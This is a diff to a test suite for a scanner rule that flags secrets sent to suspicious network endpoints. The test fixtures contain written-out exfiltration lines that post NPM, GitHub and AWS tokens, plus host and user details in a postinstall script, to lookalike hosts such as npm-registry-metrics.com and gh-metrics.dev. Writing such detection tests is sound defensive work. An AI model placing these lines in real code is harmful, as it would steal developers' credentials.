@@ -4464,6 +4464,10 @@ describe('suspicious-network-endpoint: a secret kept in a name and sent later, o
     expect(sent('src/up.ts', ["await fetch('https://registry.npmjs.org/-/v1/x', { method: 'POST', body: JSON.stringify({ t: process.env.NPM_TOKEN }) });"])).toBeUndefined();
     expect(sent('src/up.ts', ["await fetch('https://npm.acme-internal.dev/sync', { method: 'POST', body: JSON.stringify({ t: process.env.NPM_TOKEN }) });"])).toBeUndefined();
     expect(sent('src/s3.py', ['requests.put("https://my-bucket.s3.amazonaws.com/k", data=os.environ["AWS_SESSION_TOKEN"])'])).toBeUndefined();
+    // Dressed with the words of a registry's or a cloud's own parts (registry, region, mirror).
+    expect(sent('src/up.ts', ["await fetch('https://npm-registry-metrics.com/u', { method: 'POST', body: JSON.stringify({ t: process.env.NPM_TOKEN }) });"])?.severity).toBe('critical');
+    expect(sent('src/up.py', ['requests.post("https://aws-region-status.com/r", json={"k": os.environ["AWS_SECRET_ACCESS_KEY"]})'])?.severity).toBe('critical');
+    expect(sent('src/up.ts', ["await fetch('https://registry.npmjs.org/-/npm/v1/tokens', { method: 'POST', body: JSON.stringify({ t: process.env.NPM_TOKEN }) });"])).toBeUndefined();
   });
 });
 
@@ -4935,8 +4939,8 @@ describe('suspicious-network-endpoint: a secret in a request written over severa
     expect(sent('src/postinstall.js', ['function go() {', '  const token = process.env.NPM_TOKEN;', '  const host = os.hostname();', '  const user = os.userInfo().username;', '  const cwd = process.cwd();', '  const plat = process.platform;', "  return fetch('https://npm-stats.dev/c', {", "    method: 'POST',", '    body: JSON.stringify({ token, host, user, cwd, plat }),', '  });', '}'])).toMatchObject({ severity: 'critical', line: 19 });
     expect(sent('src/postinstall.js', ["const SINK = 'https://npm-stats.dev/c';", ...pad, 'function go() {', '  const token = process.env.NPM_TOKEN;', "  fetch(SINK, { method: 'POST', body: token });", '}'])).toMatchObject({ severity: 'critical', line: 19 });
     expect(sent('src/postinstall.js', ["const HOST = 'gh-' + 'metrics.dev';", "const URL_ = 'https://' + HOST + '/c';", ...pad, 'function go() {', "  fetch(URL_, { method: 'POST', body: process.env.GITHUB_TOKEN });", '}'])?.title).toBe('A secret named for another service is sent to gh-metrics.dev');
-    // Every secret the line carries is judged: NPM_TOKEN's host may pass for npm's, GITHUB_TOKEN's is not GitHub's.
-    expect(sent('src/usage.js', ['const npm = process.env.NPM_TOKEN;', 'const gh = process.env.GITHUB_TOKEN;', ...pad, "await fetch('https://npm-registry-metrics.com/u', {", "  method: 'POST',", '  body: JSON.stringify({ npm, gh }),', '});'])?.detail).toContain('GITHUB_TOKEN');
+    // Every secret the line carries is judged: NPM_TOKEN's host may pass for npm's (the company's own npm mirror), GITHUB_TOKEN's is not GitHub's.
+    expect(sent('src/usage.js', ['const npm = process.env.NPM_TOKEN;', 'const gh = process.env.GITHUB_TOKEN;', ...pad, "await fetch('https://npm.acme-internal.dev/u', {", "  method: 'POST',", '  body: JSON.stringify({ npm, gh }),', '});'])?.detail).toContain('GITHUB_TOKEN');
     expect(sent('pkg/hook.py', ['SINK = "https://gh-stats.dev/c"', 'A = 1', 'B = 2', 'C = 3', 'D = 4', 'def run():', '    tok = os.environ.get("GITHUB_TOKEN")', '    x = 1', '    y = 2', '    z = 3', '    w = 4', '    requests.post(', '        SINK,', "        json={'t': tok},", '    )'])?.line).toBe(24);
   });
   it('reads an image beacon, sendBeacon and a WebSocket written to', () => {
